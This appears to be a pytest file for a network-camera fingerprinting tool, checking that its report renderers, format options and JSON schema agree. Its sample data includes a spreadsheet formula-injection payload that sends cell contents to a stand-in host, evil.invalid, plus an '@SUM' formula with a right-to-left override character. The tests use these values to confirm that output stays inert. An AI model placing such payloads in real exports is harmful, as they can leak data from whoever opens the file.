"""The renderer registry, the --format choices and the JSON contract stay in step."""

from __future__ import annotations

import argparse
import json
from pathlib import Path

import jsonschema
import pytest

from netfinger.cli import build_parser
from netfinger.cli.output import FILE_OPTIONS, add_output_arguments
from netfinger.report import RENDERERS, Renderer, RenderOptions
from netfinger.report.model import SCHEMA_ID, Report
from netfinger.report.samples import HOSTILE_MODEL, large_report, sample_report, tiers_report
from netfinger.report.schema import report_schema, schema_errors


def _format_choices(parser: argparse.ArgumentParser) -> tuple[str, ...]:
    for action in parser._actions:
        if "--format" in action.option_strings:
            assert action.choices is not None
            return tuple(action.choices)
    raise AssertionError("no --format option")


def test_every_format_choice_has_a_renderer_and_back() -> None:
    parser = argparse.ArgumentParser()
    add_output_arguments(parser)
    choices = _format_choices(parser)
    assert set(choices) == set(RENDERERS)
    for name in choices:
        renderer = RENDERERS[name]
        assert isinstance(renderer, Renderer)
        assert renderer.name == name


def test_every_file_option_names_a_renderer() -> None:
    parser = argparse.ArgumentParser()
    add_output_arguments(parser)
    for name in FILE_OPTIONS:
        assert name in RENDERERS
        assert parser.parse_args([f"--{name}", "x"]).__dict__[name] == "x"


def test_report_command_offers_the_same_formats() -> None:
    parser = build_parser()
    for name in RENDERERS:
        assert parser.parse_args(["report", "r.json", "--format", name]).format == name
    with pytest.raises(SystemExit):
        parser.parse_args(["report", "r.json", "--format", "xml"])


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_every_renderer_renders_the_sample_with_all_hosts(name: str) -> None:
    report = tiers_report()
    text = RENDERERS[name].render(report, RenderOptions(why=True))
    for host in report.hosts:
        assert host.evidence.ip is not None
        assert host.evidence.ip in text
    assert "\x1b" not in text  # no raw escape byte reaches any output


def test_schema_is_valid_draft_2020_12() -> None:
    jsonschema.Draft202012Validator.check_schema(report_schema())
    assert report_schema()["properties"]["schema"]["enum"] == [SCHEMA_ID, "netfinger.report/1"]


def test_json_output_validates_and_round_trips() -> None:
    report = sample_report()
    text = RENDERERS["json"].render(report, RenderOptions())
    data = json.loads(text)
    jsonschema.validate(data, report_schema())
    assert text.isascii()
    again = Report.from_dict(data)
    assert again.to_dict() == data
    hostile = next(h for h in data["hosts"] if h["model"] == HOSTILE_MODEL)
    assert hostile["model"] == HOSTILE_MODEL  # the data is kept exactly; only its encoding is inert
    assert data["summary"] == {
        "hosts": 4,
        "banned": 2,
        "suspect": 0,
        "vulnerable": 2,
        "by_manufacturer": {"@SUM(1+1)\u202e": 1, "Axis": 1, "Dahua": 1, "Hikvision": 1},
        "by_brand": {
            '=HYPERLINK("http://evil.invalid/?x="&A1,"click")': 1,
            "Axis": 1,
            "Dahua": 1,
            "Hikvision": 1,
        },
    }


def test_json_carries_the_verdict_fields() -> None:
    data = json.loads(RENDERERS["json"].render(sample_report(), RenderOptions()))
    hik = next(h for h in data["hosts"] if h["manufacturer"] == "Hikvision")
    assert hik["banned"] is True
    assert hik["vulnerabilities"][0]["id"] == "CVE-2017-7921"
    assert hik["vulnerabilities"][0]["kev"] is True
    assert {"rule": "hikvision.sadp", "field": "sadp.DeviceDescription", "value": "DS-2CD2142FWD-I"} in hik[
        "evidence"
    ]


def test_schema_rejects_drift() -> None:
    data = sample_report().to_dict()
    data["hosts"][0]["confidence"] = 1.5
    del data["hosts"][1]["banned"]
    data["scan"]["surprise"] = True
    errors = schema_errors(data)
    assert len(errors) == 3
    assert any("confidence" in e for e in errors)
    assert any("banned" in e for e in errors)


def test_large_report_is_valid() -> None:
    jsonschema.validate(large_report(50).to_dict(), report_schema())


def test_documented_example_is_a_valid_report() -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "report-schema.md").read_text(encoding="utf-8")
    example = doc.split("## Example", 1)[1].split("```json", 1)[1].split("```", 1)[0]
    data = json.loads(example)
    jsonschema.validate(data, report_schema())
    assert Report.from_dict(data).summary() == data["summary"]


def test_status_and_banned_must_agree() -> None:
    data = tiers_report().to_dict()
    suspect = next(h for h in data["hosts"] if h["status"] == "suspect")
    assert suspect["suspect"]["settle"] and suspect["banned"] is False
    suspect["banned"] = True
    assert any("banned" in e for e in schema_errors(data))
    data = sample_report().to_dict()
    banned = next(h for h in data["hosts"] if h["status"] == "banned")
    banned["suspect"] = {"covered_by": [], "signals": [], "settle": []}
    assert schema_errors(data)
    data = sample_report().to_dict()
    del data["hosts"][0]["status"]
    assert any("status" in e for e in schema_errors(data))


def test_a_version_1_report_still_reads_and_gets_a_status() -> None:
    data = tiers_report().to_dict()
    data["schema"] = "netfinger.report/1"
    del data["summary"]["suspect"]
    for host in data["hosts"]:
        del host["status"], host["suspect"]
        for ref in host["evidence"]:
            ref.pop("strength", None)
    assert schema_errors(data) == []
    hosts = {h.evidence.ip: h.verdict for h in Report.from_dict(data).hosts}
    assert hosts["192.168.50.21"].status == "banned"
    assert hosts["192.168.50.7"].status == "clear"
    # A /1 file cannot say "suspect": the host the matcher now calls suspect read back as clear.
    assert hosts["192.168.50.40"].status == "clear"
    assert Report.from_dict(data).to_dict()["schema"] == SCHEMA_ID
